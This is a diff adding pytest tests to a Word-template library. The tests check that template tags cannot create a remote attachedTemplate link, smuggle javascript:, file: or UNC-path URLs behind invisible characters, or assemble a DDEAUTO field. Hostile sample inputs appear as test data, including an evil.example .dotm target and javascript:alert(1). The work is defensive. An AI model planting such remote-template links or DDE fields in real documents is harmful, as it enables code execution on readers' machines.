@@ -115,3 +115,94 @@ def test_a_strict_document_is_refused_by_name() -> None:
 
     with pytest.raises(PackageError, match="GF319 it is a Strict Open XML document"):
         open_template(edited(docx(p("{{ a }}")), to_strict), kind="docx")
+
+
+# ---------------------------------------------------------------------------------------------------------------------
+# Templates that would reach further by a tag
+
+
+def related(attributes: str, inner: str = "") -> bytes:
+    """A template with a link that is filled in, and a second relation."""
+    good = (
+        f'<Relationship Id="rIdL" Type="{HYPERLINK}" Target="https://a.example/{{{{ url }}}}" TargetMode="External"/>'
+    )
+    end = f'{good}<Relationship Id="rIdM" {attributes}>{inner}</Relationship></Relationships>'.encode()
+
+    def add(name: str, data: bytes) -> bytes:
+        return data.replace(b"</Relationships>", end) if name == "word/_rels/document.xml.rels" else data
+
+    return edited(docx(f"<w:p>{LINK}</w:p>"), add)
+
+
+ATTACHED = HYPERLINK.replace("hyperlink", "attachedTemplate")
+
+
+@pytest.mark.parametrize(
+    "attributes",
+    [
+        f'Type="{{{{ \'{ATTACHED}\' }}}}" Target="https://evil.example/x.dotm" TargetMode="External"',
+        f'Type="{ATTACHED}" Target="https://evil.example/x.dotm" TargetMode="{{{{ mode }}}}"',
+        f'xmlns:x="urn:x" x:Target="https://a.example" Type="{HYPERLINK}" Target="{{{{ url }}}}" TargetMode="External"',
+    ],
+)
+def test_no_tag_decides_what_kind_of_link_it_is(attributes: str) -> None:
+    with pytest.raises(TemplateError) as caught:
+        open_template(related(attributes), kind="docx")
+
+    assert [issue.code for issue in caught.value.issues] == ["GF315"]
+
+
+def test_no_tag_stands_between_the_relations() -> None:
+    data = related(f'Type="{HYPERLINK}" Target="https://b.example" TargetMode="External"', "{{ url }}")
+    with pytest.raises(TemplateError, match="GF315"):
+        open_template(data, kind="docx")
+
+
+def test_the_target_of_a_template_is_never_filled_in() -> None:
+    data = related(f'Type="{ATTACHED}" Target="{{{{ url }}}}" TargetMode="External"')
+    filled = open_template(data, kind="docx").render({"name": "n", "url": "evil"}).to_bytes()
+
+    assert python_docx.Document(io.BytesIO(filled)).part.rels["rIdM"].target_ref == "%7B%7B url %7D%7D"
+
+
+@pytest.mark.parametrize(
+    "url", ["\u200bjavascript:x", "\ufefffile:///x", "/\\server\\share", "%5C/server/share", "java\tscript:x"]
+)
+def test_signs_that_nobody_sees_hide_no_program(url: str) -> None:
+    with pytest.raises(TemplateError, match="GF219"):
+        linked("{{ url }}").render({"name": "n", "url": url})
+
+
+def field(*code: str) -> str:
+    """A paragraph with a field whose code is in these runs."""
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in code)
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    return f"<w:p>{begin}{runs}{end}</w:p>"
+
+
+FIELD_LINKS = [
+    field(' HYPERLINK "{{ url }}" '),
+    field("HYPERLINK ", '"', "{{ url }}", '"'),
+    '<w:p><w:fldSimple w:instr="HYPERLINK &quot;{{ url }}&quot;"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>',
+]
+
+
+@pytest.mark.parametrize("body", FIELD_LINKS)
+def test_the_address_in_a_field_starts_no_program_either(body: str) -> None:
+    template = open_template(docx(body), kind="docx")
+
+    assert "https://a.example" in read_part(template.render({"url": "https://a.example"}).to_bytes())
+    with pytest.raises(TemplateError, match="GF219"):
+        template.render({"url": "javascript:alert(1)"})
+
+
+@pytest.mark.parametrize("code", ["{{ 'DDE' }}AUTO c:/x", "DD{{ 'EAUTO' }} c:/x", "{% if a %}DDEAUTO{% endif %} c:/x"])
+def test_a_field_whose_name_is_computed_is_told(code: str) -> None:
+    assert "GF321" in {issue.code for issue in open_template(docx(field(code)), kind="docx").issues}
+
+
+def test_other_fields_with_values_are_not() -> None:
+    template = open_template(docx(field('IF "{{ a }}" = "b:c" "yes" "no"')), kind="docx")
+
+    assert template.issues == ()
+    assert "x:y" in read_part(template.render({"a": "x:y"}).to_bytes())
